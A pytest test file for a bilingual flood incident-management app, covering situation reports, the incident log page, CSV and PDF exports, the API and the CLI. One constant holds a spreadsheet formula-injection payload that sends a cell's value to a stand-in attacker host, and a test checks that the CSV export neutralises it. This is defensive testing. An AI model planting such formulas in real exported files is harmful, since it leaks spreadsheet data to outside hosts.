"""The incident log page, its CSV and PDF, the API's doors and the CLI's."""
from __future__ import annotations

import base64
import csv
import io
from typing import Any

from pypdf import PdfReader

from tests.helpers import csrf_token, is_problem, signed_in, stored

GRID, OTHER = "S01-C01-G01", "S02-C01-G01"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def declared(app: Any) -> str:
    from app.incidents import workflows
    from app.incidents.services import AreaInput
    with stored(app) as session:
        return workflows.declare(session, title="内涝", hazard="flood", level=3,
                                 areas=[AreaInput(GRID, 300, 60),
                                        AreaInput(OTHER, 200, 20)]).code


def post_sitrep(client: Any, code: str, htmx: bool = False, **over: Any) -> Any:
    token = csrf_token(client.get(f"/incidents/{code}/log").get_data(as_text=True))
    data = {"csrf_token": token, "sitrep-text": "桥梁被淹", "sitrep-area": GRID,
            "sitrep-evacuated": "40", **over}
    headers = {"HX-Request": "true"} if htmx else {}
    return client.post(f"/incidents/{code}/log", data=data, headers=headers,
                       content_type="multipart/form-data")


def test_a_coordinator_adds_a_situation_report_and_the_log_shows_it(app: Any,
                                                                    demo: Any) -> None:
    code = declared(app)
    client = signed_in(app, "coordinator")
    detail = client.get(f"/incidents/{code}").get_data(as_text=True)
    assert f'href="/incidents/{code}/log"' in detail
    resp = post_sitrep(client, code, **{"sitrep-photo": (io.BytesIO(PNG), "a.png")})
    assert resp.status_code == 302
    html = client.get(resp.headers["Location"]).get_data(as_text=True)
    assert "桥梁被淹" in html and "宣布启动 Ⅲ 级响应" in html and "flash ok" in html
    assert "已转移：40" in html
    photo = client.get(f"/incidents/{code}/situation-reports/1/photo")
    assert photo.status_code == 200 and photo.mimetype == "image/png"
    assert photo.headers["X-Content-Type-Options"] == "nosniff" and photo.data == PNG


def test_an_htmx_post_answers_the_log_part_with_the_result_in_view(app: Any,
                                                                   demo: Any) -> None:
    code = declared(app)
    client = signed_in(app, "staff")
    resp = post_sitrep(client, code, htmx=True)
    html = resp.get_data(as_text=True)
    assert resp.status_code == 200 and "<html" not in html
    assert "flash ok" in html and "桥梁被淹" in html and 'id="timeline"' in html


def test_bad_input_is_a_422_with_the_error_beside_its_field_and_the_values_kept(
        app: Any, demo: Any) -> None:
    code = declared(app)
    client = signed_in(app, "coordinator")
    resp = post_sitrep(client, code, **{"sitrep-dead": "-3", "sitrep-text": "保留这段文字"})
    html = resp.get_data(as_text=True)
    assert resp.status_code == 422 and "保留这段文字" in html and 'value="-3"' in html
    assert html.count('class="error"') >= 1
    resp = post_sitrep(client, code, **{"sitrep-photo": (io.BytesIO(b"<svg/>"), "x.png")})
    assert resp.status_code == 422 and "照片须为 JPEG、PNG 或 WebP 图片。" in resp.get_data(
        as_text=True)


def test_an_official_reads_the_log_but_cannot_post_to_it(app: Any, demo: Any) -> None:
    code = declared(app)
    client = signed_in(app, "official")
    html = client.get(f"/incidents/{code}/log").get_data(as_text=True)
    assert "宣布启动" in html and 'id="sitrep"' not in html
    token = csrf_token(html)
    resp = client.post(f"/incidents/{code}/log", data={"csrf_token": token,
                                                       "sitrep-text": "x"})
    assert resp.status_code == 403


def test_the_csv_is_in_one_language_and_safe_in_a_spreadsheet(app: Any, demo: Any) -> None:
    code = declared(app)
    client = signed_in(app, "coordinator")
    assert post_sitrep(client, code, **{"sitrep-text": HOSTILE}).status_code == 302
    resp = client.get(f"/incidents/{code}/log.csv?lang=en")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0] == ["time", "who", "kind", "entry", "reference", "details"]
    cells = [c for row in rows for c in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert any("Declared at level" in c for c in cells) and not any("宣布" in c for c in cells)
    zh = client.get(f"/incidents/{code}/log.csv?lang=zh").get_data(as_text=True)
    assert "时间" in zh and "宣布启动" in zh and "Declared" not in zh


def test_the_pdf_renders_the_ics_214_header_and_the_steps_in_one_language(
        app: Any, demo: Any) -> None:
    code = declared(app)
    client = signed_in(app, "coordinator")
    post_sitrep(client, code, **{"sitrep-photo": (io.BytesIO(PNG), "a.png")})
    for lang, words, foreign in (("zh", ["事件工作日志", "宣布启动", "桥梁被淹", "编制人"],
                                  "Declared"),
                                 ("en", ["Incident log (ICS 214)", "Declared at level",
                                         "Prepared by", "Page 1 of"], "宣布")):
        resp = client.get(f"/incidents/{code}/log.pdf?lang={lang}")
        assert resp.status_code == 200 and resp.mimetype == "application/pdf"
        text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(resp.data)).pages)
        flat = text.replace(" ", "").replace("\n", "")
        for word in words:
            assert word.replace(" ", "") in flat, (lang, word)
        assert foreign not in text


def test_the_api_reads_the_log_and_takes_a_report_with_a_base64_photo(
        app: Any, demo: Any, client: Any, auth: Any) -> None:
    code = declared(app)
    staff, official = auth("staff"), auth("official")
    body = {"text": "水位上涨", "area": "S01-C01", "injured": 2,
            "photo_base64": base64.b64encode(PNG).decode()}
    resp = client.post(f"/api/v1/incidents/{code}/situation-reports", json=body, headers=staff)
    assert resp.status_code == 201, resp.json
    assert resp.json["counts"] == {"injured": 2} and resp.json["photo"] == "image/png"
    photo = client.get(f"/api/v1/incidents/{code}/situation-reports/{resp.json['id']}/photo",
                       headers=official)
    assert photo.status_code == 200 and photo.data == PNG and photo.mimetype == "image/png"
    read = client.get(f"/api/v1/incidents/{code}/log?lang=en", headers=official).json
    assert [e["kind"] for e in read["entries"]][0] == "incident"
    assert read["entries"][-1]["text"] == "水位上涨" and read["entries"][-1]["who"] == "staff"
    for bad, field in (({"text": "x", "photo_base64": "!!"}, "photo_base64"),
                       ({"text": "x", "dead": -1}, "dead"),
                       ({"text": "x", "photo_base64": base64.b64encode(b"GIF89a").decode()},
                        "photo")):
        resp = client.post(f"/api/v1/incidents/{code}/situation-reports", json=bad,
                           headers=auth("coordinator"))
        assert is_problem(resp, 422) and resp.json["field"] == field, resp.json
    resp = client.post(f"/api/v1/incidents/{code}/situation-reports", json={"text": "x"},
                       headers=official)
    assert is_problem(resp, 403)


def test_the_cli_prints_writes_and_adds_to_the_log(app: Any, demo: Any, tmp_path: Any,
                                                   run: Any) -> None:
    code = declared(app)
    done = run("incidents", "sitrep", code, "--text", "道路中断", "--area", GRID,
               "--evacuated", "12")
    assert done.returncode == 0, done.stderr
    shown = run("incidents", "log", code, "--lang", "en")
    assert "Declared at level" in shown.stdout and "道路中断" in shown.stdout
    out_csv, out_pdf = tmp_path / "log.csv", tmp_path / "log.pdf"
    written = run("incidents", "log", code, "--csv", str(out_csv), "--pdf", str(out_pdf))
    assert written.returncode == 0 and "宣布启动" in out_csv.read_text("utf-8")
    assert out_pdf.read_bytes().startswith(b"%PDF")
    bad = run("incidents", "sitrep", code, "--text", "x", "--area", "S01-C02")
    assert bad.returncode == 1 and "error:" in bad.stderr and len(bad.stderr.splitlines()) == 1


def test_an_update_alert_notes_the_situation_reports_since_the_alert_before(
        app: Any, demo: Any, client: Any, auth: Any) -> None:
    from app.incidents.interop import cap
    code = declared(app)
    coordinator = auth("coordinator")
    client.post(f"/api/v1/incidents/{code}/situation-reports", headers=coordinator,
                json={"text": "堤坝出现管涌", "area": GRID})
    assert client.put(f"/api/v1/incidents/{code}/level", json={"level": 2},
                      headers=coordinator).status_code == 200
    first = client.get(f"/api/v1/incidents/{code}/cap/1.xml", headers=coordinator).data
    second = client.get(f"/api/v1/incidents/{code}/cap/2.xml", headers=coordinator).data
    assert cap.validation_errors(first) == [] and cap.validation_errors(second) == []
    assert b"<note>" not in first
    note = second.decode().split("<note>")[1].split("</note>")[0]
    assert "Situation reports" in note and f"{GRID}: 堤坝出现管涌" in note
